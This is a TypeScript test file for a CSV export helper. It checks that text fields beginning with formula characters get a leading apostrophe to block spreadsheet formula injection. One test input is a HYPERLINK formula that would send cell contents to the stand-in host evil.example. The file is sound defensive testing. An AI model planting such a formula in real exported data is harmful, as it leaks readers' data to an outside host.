/**
 * A CSV opened in a spreadsheet runs a field that starts like a formula ("=HYPERLINK(…)"): a title
 * typed by anyone could then send the reader's data elsewhere. Text fields that start so are
 * written with a leading apostrophe (OWASP's advice), numbers as they are.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvValue } from "./cells";

const FORMULA_START = /^[=+\-@\t\r]/;

describe("CSV fields", () => {
  it("writes a text that starts like a formula as text", () => {
    expect(csvValue("text", '=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
    );
    for (const start of ["+", "-", "@", "\t", "\r"]) expect(csvValue("text", `${start}1`)).toBe(`'${start}1`);
    expect(csvValue("text", "Labour mobility in West Africa")).toBe("Labour mobility in West Africa");
  });

  it("leaves numbers alone, negative ones too", () => {
    expect(csvValue("money", -12_345)).toBe("-123.45");
    expect(csvValue("integer", -3)).toBe("-3");
    expect(csvValue("decimal", "-0.5")).toBe("-0.5");
  });

  it("never starts a text field like a formula, and only ever adds the one apostrophe", () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const written = csvValue("text", text);
        expect(FORMULA_START.test(written)).toBe(false);
        expect(written === text || written === `'${text}`).toBe(true);
      }),
    );
  });
});
